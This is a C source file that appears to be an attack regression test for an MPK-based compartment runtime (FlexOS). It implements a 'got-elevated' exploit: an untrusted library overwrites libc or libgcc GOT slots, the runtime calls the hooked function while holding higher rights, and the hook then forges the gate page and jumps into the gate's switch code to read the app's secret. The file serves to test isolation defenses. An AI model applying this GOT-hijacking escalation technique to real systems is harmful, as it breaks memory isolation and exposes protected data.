/*
 * attack --got-elevated report|home|claim|unwind (limit 1 of
 * docs/threat-model.md; found by an audit): lib1 rewrites a writable
 * code pointer of the platform's (key 0) that the runtime's own C code
 * follows while it runs with more rights than lib1's, then makes the
 * runtime run that code:
 *   report  the C library's strchrnul slot (glibc's printf calls it
 *           through its .got.plt), then a call of the violation entry:
 *           the report, with the report's PKRU (every key readable, the
 *           gate key writable);
 *   home    the same slot, then flexos__mpk_home_stack() outside of what
 *           it serves: its refusal runs with the gate page open;
 *   claim   the same slot, then no gate page in its TLS: the claim's
 *           refusal, with the gate page open;
 *   unwind  libgcc_s's slot of _Unwind_Find_FDE, then a fault: the
 *           report's backtrace.
 * With the gate page writable, lib1's code would name app as running and
 * take app's PKRU from the gate's own switch (the open PKRU is enough).
 * Now the runtime's messages are formatted without the C library, and the
 * report's unwinder is linked into the image (its calls through the
 * image's read-only GOT): the runtime ends the image (134, 123) and lib1's
 * code never runs with more than its rights. Before, lib1's code took
 * app's PKRU and read app's secret (status 1).
 */
#define _GNU_SOURCE 1
#include <link.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

#include <flexos/flexos.h>

#include "../../backends/mpk/mpk.h"
#include "attacklib.h"
#include "gotslot.h"
#include "evil.h"
#include "gotelevated.h"

extern char flexos__mpk_bind_checked[];
/* libgcc's, not in <unwind.h>: what the unwinder calls for each frame. */
const void *_Unwind_Find_FDE(void *pc, void *bases);

static struct {
	const char *how, *lib;
	uintptr_t secret, want, orig, close_gate;
	uintptr_t *slot;
	uint32_t app_pkru, lib1_pkru;
	volatile int done;
	const struct mpk_gate_page *saved_gp;
	char stack[65536] __attribute__((aligned(16)));
} ge FLEXOS_SHARED;

/* On ge.stack, with app's PKRU (after the gate's own switch). */
static __attribute__((__noreturn__, __used__)) void ge_escalated(void)
{
	*ge.slot = ge.orig;
	evil_ran("got-elevated", ge.secret, ge.app_pkru);
}

/* lib1's code in the slot: run by whoever calls through it. */
static uintptr_t ge_hook(uintptr_t a, uintptr_t b)
{
	uint32_t pkru = flexos__mpk_rdpkru();

	if (!ge.done && pkru != ge.lib1_pkru && pkru != ge.app_pkru) {
		ge.done = 1;
		printf("got-elevated %s: lib1's code runs inside the runtime with PKRU %#x (lib1's "
		       "%#x): it names app as running on its gate page and takes the gate's own "
		       "switch\n",
		       ge.how, pkru, ge.lib1_pkru);
		fflush(stdout);
		if (ge.saved_gp) {
			flexos__mpk_thread.gp = (struct mpk_gate_page *)ge.saved_gp;
			flexos__mpk_thread.ready = 1;
		}
		struct mpk_gate_page *gp = (struct mpk_gate_page *)flexos__mpk_own_page();
		*(volatile uint64_t *)&gp->cur = 0; /* app */
		__asm__ volatile("movq %0, %%r11\n\t"
				 "call *%1\n\t"
				 "movq %2, %%rsp\n\t"
				 "call ge_escalated"
				 :
				 : "r"(gp), "r"(ge.close_gate), "r"(ge.stack + sizeof(ge.stack))
				 : "rax", "rcx", "rdx", "r10", "r11", "memory");
	}
	return ((uintptr_t(*)(uintptr_t, uintptr_t))ge.orig)(a, b);
}

/* Run by lib1 (lib1_call: cb(x + 1) + 1). */
static long ge_in_lib1(long x)
{
	(void)x;
	ge.lib1_pkru = flexos__mpk_rdpkru();
	/* The gate's switch back to the page's compartment (flexos__mpk_thread_bind's). */
	uintptr_t pa = (uintptr_t)flexos__mpk_bind_checked;
	for (uintptr_t a = pa - 3; a > pa - 64; a--) {
		const volatile uint8_t *p = (const volatile uint8_t *)a;
		if (p[0] == 0x4d && p[1] == 0x8b && p[2] == 0x13) { /* movq (%r11), %r10 */
			ge.close_gate = a;
			break;
		}
	}
	ge.slot = got_slot(ge.lib, ge.want);
	if (!ge.slot || !ge.close_gate) {
		printf("got-elevated %s: no slot of %s holds the function (%s)\n", ge.how, ge.lib,
		       ge.slot ? "found" : "not found");
		fflush(stdout);
		return -100;
	}
	ge.orig = *ge.slot;
	*ge.slot = (uintptr_t)ge_hook;
	if (!strcmp(ge.how, "report")) {
		__asm__ volatile("movl $1, %%r10d\n\t"
				 "xorl %%eax, %%eax\n\t"
				 "call *%0"
				 :
				 : "r"(flexos__mpk_violation_entry)
				 : "rax", "rcx", "rdx", "rsi", "rdi", "r8", "r9", "r10", "r11",
				   "rbx", "r12", "r13", "r14", "r15", "memory");
	} else if (!strcmp(ge.how, "home")) {
		flexos__mpk_home_stack();
	} else if (!strcmp(ge.how, "claim")) {
		ge.saved_gp = flexos__mpk_thread.gp;
		flexos__mpk_thread.gp = NULL;
		flexos__mpk_thread.ready = 0;
		flexos__mpk_thread_bind();
	} else if (!strcmp(ge.how, "unwind")) {
		(void)*(volatile long *)ge.secret; /* a protection-key fault: the report */
	}
	*ge.slot = ge.orig;
	return -200;
}

int got_elevated(const char *how, uintptr_t app_secret)
{
	long r = 0;

	ge.how = how;
	ge.secret = app_secret;
	ge.app_pkru = flexos__mpk_rdpkru();
	if (!strcmp(how, "unwind")) {
		ge.lib = "libgcc_s.so";
		ge.want = (uintptr_t)_Unwind_Find_FDE;
	} else if (!strcmp(how, "report") || !strcmp(how, "home") || !strcmp(how, "claim")) {
		ge.lib = "libc.so.6";
		ge.want = (uintptr_t)strchrnul;
	} else {
		return 2;
	}
	printf("got-elevated %s: lib1 rewrites the slot of %s's that holds %#lx\n", how, ge.lib,
	       (unsigned long)ge.want);
	fflush(stdout);
	flexos_gate_r(lib1, r, lib1_call, ge_in_lib1, 0);
	printf("got-elevated %s: back in app (%ld)\n", how, r - 1);
	return r == -99 ? 3 : 1;
}
